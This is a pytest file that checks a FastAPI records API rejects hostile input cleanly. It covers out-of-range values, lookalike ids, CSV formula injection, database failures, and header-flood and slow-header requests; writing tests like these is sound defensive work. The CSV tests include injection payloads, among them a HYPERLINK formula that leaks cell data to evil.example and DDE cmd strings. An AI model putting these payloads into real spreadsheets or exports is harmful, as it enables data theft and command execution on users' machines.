"""Hostile input never reaches a 500: dates and numbers past what the database stores, ids
with a trailing newline, formulas in CSV cells, wrong methods, and a database that cannot
be written to. Each on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import logging
import socket
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import event, text

from app.core.config import Settings
from app.core.db import make_engine, make_sessionmaker, unit_of_work
from app.main import create_app
from app.records.auth import create_key
from app.views.tabular import neutralise
from tests.conftest import client_for
from tests.live import live_server

CITE = [
    {"source": "wmr-2024-ch8", "quote": "Pledges are measurable commitments made by Member States"}
]
EVENT = {
    "id": "hostile-event",
    "title": "A meeting",
    "kind": "meeting",
    "date": "2019",
    "cite": CITE,
}
ACTOR = {"id": "hostile-actor", "name": "A new actor", "kind": "other", "cite": CITE}
OUT_OF_RANGE_DATES = ["0000", "0000-01", "0000-01-01", "000X", "0000~", "0000-21", "9999-24"]


def key_for(url: str, name: str) -> str:
    engine = make_engine(url)
    with unit_of_work(make_sessionmaker(engine)) as session:
        token = create_key(session, name, "admin")
    engine.dispose()
    return token


@pytest.fixture(scope="module")
def api(fixture_db: str) -> Iterator[tuple[TestClient, dict[str, str]]]:
    """A client over the test dataset and an admin key's header; tests here write little."""
    headers = {"Authorization": f"Bearer {key_for(fixture_db, 'hostile')}"}
    for client in client_for(fixture_db):
        yield client, headers


def _problem(response: Any, status: int) -> Any:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    return response.json()


def _names(problem: dict[str, Any]) -> str:
    return " ".join(str(e.get("parameter") or e.get("detail")) for e in problem["errors"])


@pytest.mark.parametrize("value", [*OUT_OF_RANGE_DATES, "10000", "99999-01"])
@pytest.mark.parametrize("parameter", ["start", "end"])
def test_dates_past_storage_in_query_are_422_naming_the_parameter(api, parameter, value):
    client, _ = api
    body = _problem(client.get("/api/v1/timeline", params={parameter: value}), 422)
    assert [e["parameter"] for e in body["errors"]] == [parameter]
    # the connection stays usable afterwards
    assert client.get("/api/v1/timeline", params={parameter: "2017"}).status_code == 200


def test_first_and_last_storable_years_are_accepted_in_query(api):
    client, _ = api
    page = client.get("/api/v1/timeline", params={"start": "0001", "end": "9999-12-31"}).json()
    assert len(page["items"]) == 5


@pytest.mark.parametrize("value", [*OUT_OF_RANGE_DATES, "0000/2017", "2017/9999-24"])
def test_dates_past_storage_in_bodies_are_422_naming_the_field(api, value):
    client, headers = api
    body = _problem(
        client.post("/api/v1/events", json={**EVENT, "date": value}, headers=headers), 422
    )
    assert body["detail"].startswith("date:"), body
    assert "0000" in body["detail"] or "9999" in body["detail"]
    assert client.get("/api/v1/events/hostile-event").status_code == 404


@pytest.mark.parametrize(
    "ordinal", [2_147_483_648, -2_147_483_649, 9_223_372_036_854_775_808, 10**30]
)
def test_integers_past_the_column_are_422_naming_the_field(api, ordinal):
    client, headers = api
    response = client.post("/api/v1/events", json={**EVENT, "ordinal": ordinal}, headers=headers)
    body = _problem(response, 422)
    assert "ordinal" in _names(body)
    etag = client.get("/api/v1/events/cm-15", headers={"Cache-Control": "no-cache"})
    patch = client.patch(
        "/api/v1/events/cm-15",
        json={"ordinal": ordinal},
        headers={**headers, "If-Match": etag.headers["etag"]},
    )
    assert "ordinal" in _names(_problem(patch, 422))


def test_largest_ordinal_the_column_holds_is_stored(api):
    client, headers = api
    created = client.post(
        "/api/v1/events",
        json={**EVENT, "id": "big-ordinal", "ordinal": 2_147_483_647},
        headers=headers,
    )
    assert created.status_code == 201, created.text
    assert client.get("/api/v1/events/big-ordinal").json()["ordinal"] == 2_147_483_647
    assert client.delete("/api/v1/events/big-ordinal", headers=headers).status_code == 204


@pytest.mark.parametrize(
    ("path", "record", "field"),
    [
        ("/api/v1/actors", {**ACTOR, "acronym": "A" * 61}, "acronym"),
        ("/api/v1/actors", {**ACTOR, "id": "a" * 81}, "id"),
        ("/api/v1/events", {**EVENT, "date": " " * 60 + "2019"}, "date"),
        ("/api/v1/pledges", {"id": "p", "title": "P", "type": "t" * 61, "cite": CITE}, "type"),
    ],
)
def test_text_longer_than_its_column_is_422_naming_the_field(api, path, record, field):
    """PostgreSQL refuses a value longer than its VARCHAR; that must be a 422, not a 500."""
    client, headers = api
    body = _problem(client.post(path, json=record, headers=headers), 422)
    assert body["detail"].startswith(f"{field}:"), body


@pytest.mark.parametrize("objective", ["2147483648", "9223372036854775808", "-1", "0"])
def test_integer_query_parameters_past_storage_are_4xx(api, objective):
    client, _ = api
    response = client.get("/api/v1/pledges", params={"objective": objective})
    assert response.status_code == 422, response.text
    assert "objective" in _names(response.json())


@pytest.mark.parametrize("ident", ["mexico\n", "mexico\r\n", " mexico", "Mexico"])
def test_ids_are_matched_whole(api, ident):
    client, headers = api
    body = _problem(
        client.post("/api/v1/actors", json={**ACTOR, "id": ident}, headers=headers), 422
    )
    assert "id" in body["detail"]
    pledge = {"id": "p-newline", "title": "A pledge", "pledgers": [ident], "cite": CITE}
    body = _problem(client.post("/api/v1/pledges", json=pledge, headers=headers), 422)
    assert "pledgers" in body["detail"]


@pytest.mark.parametrize("path", ["/api/v1/actors/mexico%0A", "/api/v1/actors/mexico%0D%0A"])
def test_lookalike_ids_in_paths_are_404(api, path):
    client, _ = api
    assert client.get("/api/v1/actors/mexico").status_code == 200
    _problem(client.get(path), 404)


class TestCsvFormulas:
    @pytest.mark.parametrize(
        ("cell", "written"),
        [
            (
                '=HYPERLINK("http://evil.example/?"&A1,"x")',
                '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("-", "'-"),
            ("-12", "-12"),
            ("-12.5", "-12.5"),
            ("+44", "+44"),
            ("-1.5e3", "-1.5e3"),
            ("2017-02-16", "2017-02-16"),
            ("Mexico", "Mexico"),
            ("", ""),
        ],
    )
    def test_neutralise(self, cell, written):
        assert neutralise(cell) == written

    def test_formulas_written_through_the_api_are_inert_in_every_csv(self, api):
        client, headers = api
        title = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        actor = {**ACTOR, "id": "formula-actor", "name": title, "description": "@SUM(A1)"}
        assert client.post("/api/v1/actors", json=actor, headers=headers).status_code == 201
        rows = list(csv.DictReader(io.StringIO(client.get("/api/v1/actors?format=csv").text)))
        row = next(r for r in rows if r["id"] == "formula-actor")
        assert row["name"] == "'" + title
        assert row["description"] == "'@SUM(A1)"
        changes = client.get("/api/v1/changes?format=csv&kind=actors").text
        assert not any(line.startswith(("=", "+", "-", "@")) for line in changes.splitlines())
        for line in csv.reader(io.StringIO(changes)):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in line)
        assert client.delete("/api/v1/actors/formula-actor", headers=headers).status_code == 204

    def test_formulas_arriving_by_csv_import_are_inert(self, api):
        client, headers = api
        text_csv = (
            "id,title,pledger,type,objectives,date,description,status,source\r\n"
            "formula-pledge,\"-2+3+cmd|' /C calc'!A0\",Mexico,policy,7,2022,"
            '"=1+1",planned,https://example.org/pledges/1\r\n'
        )
        imported = client.post(
            "/api/v1/pledges/import",
            content=text_csv.encode(),
            headers={**headers, "Content-Type": "text/csv"},
        )
        assert imported.status_code in (200, 201), imported.text
        rows = list(csv.DictReader(io.StringIO(client.get("/api/v1/pledges?format=csv").text)))
        row = next(r for r in rows if r["id"] == "formula-pledge")
        assert row["title"] == "'-2+3+cmd|' /C calc'!A0"
        assert row["description"] == "'=1+1"
        # the stored record keeps what was sent
        assert client.get("/api/v1/pledges/formula-pledge").json()["description"] == "=1+1"


class TestMethods:
    @pytest.mark.parametrize(
        ("method", "path", "allowed"),
        [
            ("POST", "/api/v1/actors/mexico", {"GET", "PATCH", "DELETE"}),
            ("PUT", "/api/v1/pledges/new-pledge", {"GET", "PATCH", "DELETE"}),
            ("DELETE", "/api/v1/actors", {"GET", "POST"}),
            ("POST", "/api/v1/timeline", {"GET"}),
        ],
    )
    def test_405_names_every_allowed_method(self, api, method, path, allowed):
        client, _ = api
        body = _problem(client.request(method, path), 405)
        assert set(client.request(method, path).headers["allow"].split(", ")) == allowed
        assert method in body["detail"]

    def test_head_on_health(self, api):
        client, _ = api
        response = client.head("/health")
        assert response.status_code == 200
        assert response.content == b""


def _read_only(url: str, tmp_path: Path) -> str:
    """A copy of an SQLite database opened read-only, as a file on a read-only mount is."""
    copy = tmp_path / "read-only.sqlite3"
    with sqlite3.connect(url.removeprefix("sqlite:///")) as source, sqlite3.connect(copy) as to:
        source.backup(to)
        to.execute("PRAGMA journal_mode=DELETE")  # no -wal or -shm file to write
    return f"sqlite:///file:{copy}?mode=ro&uri=true"


def _postgres_read_only(url: str, on: bool) -> None:
    engine = make_engine(url).execution_options(isolation_level="AUTOCOMMIT")
    with engine.connect() as connection:
        connection.execute(text("SET default_transaction_read_only = off"))
        name = connection.execute(text("SELECT current_database()")).scalar_one()
        change = "SET default_transaction_read_only = on" if on else "RESET ALL"
        connection.execute(text(f'ALTER DATABASE "{name}" {change}'))
    engine.dispose()


def test_read_only_database_is_reported_as_such(fixture_db, tmp_path, caplog):
    token = key_for(fixture_db, "read-only-writer")
    if fixture_db.startswith("sqlite"):
        url = _read_only(fixture_db, tmp_path)
    else:
        url = fixture_db
        _postgres_read_only(fixture_db, on=True)
    try:
        with TestClient(create_app(Settings(database_url=url)), raise_server_exceptions=False) as c:
            assert c.get("/api/v1/actors/mexico").status_code == 200
            with caplog.at_level(logging.WARNING, logger="mgt"):
                response = c.post(
                    "/api/v1/actors", json=ACTOR, headers={"Authorization": f"Bearer {token}"}
                )
            body = _problem(response, 503)
            assert "read-only" in body["detail"]
            assert "retry shortly" not in body["detail"]
            assert any("read-only" in r.getMessage() for r in caplog.records), caplog.text
    finally:
        if not fixture_db.startswith("sqlite"):
            _postgres_read_only(fixture_db, on=False)


def test_full_disk_is_507(api, caplog):
    """SQLite's page limit gives the error a full disk gives ("database or disk is full");
    PostgreSQL's disk_full (53100) is raised by a trigger in the same place."""
    client, headers = api
    engine = client.app.state.db.engine
    if engine.dialect.name == "sqlite":

        def full(dbapi_connection, _record):
            pages = dbapi_connection.execute("PRAGMA page_count").fetchone()[0]
            dbapi_connection.execute(f"PRAGMA max_page_count = {pages}")

        event.listen(engine, "connect", full)
        undo = lambda: event.remove(engine, "connect", full)  # noqa: E731
    else:
        with engine.begin() as connection:
            connection.execute(
                text(
                    "CREATE FUNCTION disk_full() RETURNS trigger AS $$ BEGIN "
                    "RAISE EXCEPTION 'could not extend file' USING ERRCODE = '53100'; "
                    "END $$ LANGUAGE plpgsql"
                )
            )
            connection.execute(
                text(
                    "CREATE TRIGGER disk_full BEFORE INSERT ON changes EXECUTE FUNCTION disk_full()"
                )
            )

        def undo() -> None:
            with engine.begin() as connection:
                connection.execute(text("DROP TRIGGER disk_full ON changes"))
                connection.execute(text("DROP FUNCTION disk_full()"))

    engine.dispose()
    big = {**ACTOR, "id": "big-actor", "description": "x" * 3900, "aliases": ["y" * 3000]}
    try:
        with caplog.at_level(logging.WARNING, logger="mgt"):
            response = client.post("/api/v1/actors", json=big, headers=headers)
    finally:
        undo()
        engine.dispose()
    body = _problem(response, 507)
    assert "full" in body["detail"]
    assert any("full" in r.getMessage() for r in caplog.records), caplog.text
    assert client.get("/api/v1/actors/big-actor").status_code == 404


def _exchange(port: int, request: bytes, *, pause: float = 0.0) -> bytes:
    """Send ``request`` (in 1-byte steps ``pause`` s apart if given); what comes back."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        try:
            if pause:
                for byte in request:
                    sock.sendall(bytes([byte]))
                    time.sleep(pause)
            else:
                sock.sendall(request)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server may close before the whole request is sent
        answer = b""
        try:
            while chunk := sock.recv(65536):
                answer += chunk
        except (ConnectionResetError, TimeoutError):
            pass
        return answer


def _status(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0


def test_live_server_limits_headers_and_their_arrival(tmp_path, monkeypatch):
    monkeypatch.setenv("MGT_HEADER_TIMEOUT", "2")
    with live_server(tmp_path) as server:
        port = int(server.base_url.rsplit(":", 1)[1])
        head = b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        assert _status(_exchange(port, head + b"\r\n")) == 200
        assert _status(_exchange(port, head + b"X-Ok: " + b"a" * 4000 + b"\r\n\r\n")) == 200
        many = b"".join(b"X-%d: 1\r\n" % n for n in range(101))
        answer = _exchange(port, head + many + b"\r\n")
        assert _status(answer) == 431
        assert b"more than 100 header fields" in answer
        answer = _exchange(port, head + b"X-Big: " + b"a" * 9000 + b"\r\n\r\n")
        assert _status(answer) == 431
        assert b"application/problem+json" in answer
        # 16 MB of headers: refused after the first 64 KiB or so, not read to the end
        started = time.monotonic()
        huge = b"".join(b"X-%d: %s\r\n" % (n, b"a" * 8000) for n in range(2000))
        assert _status(_exchange(port, head + huge + b"\r\n")) == 431
        assert time.monotonic() - started < 10
        assert _status(_exchange(port, b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\n\r\n")) == 414
        # headers trickled a byte every 0.25 s: cut off after 2 s
        started = time.monotonic()
        answer = _exchange(port, head + b"X-Slow: " + b"a" * 40 + b"\r\n\r\n", pause=0.25)
        assert _status(answer) == 408
        assert 1.5 < time.monotonic() - started < 8
        assert b"did not arrive within 2 s" in answer
        # a connection that sends nothing is closed too
        with socket.create_connection(("127.0.0.1", port), timeout=30) as idle:
            started = time.monotonic()
            assert idle.recv(1024).startswith(b"HTTP/1.1 408")
            assert time.monotonic() - started < 8
        # and the server still answers
        assert server.get_json("/health")["status"] == "ok"
        assert server.get_json("/api/v1/actors/mexico")["id"] == "mexico"
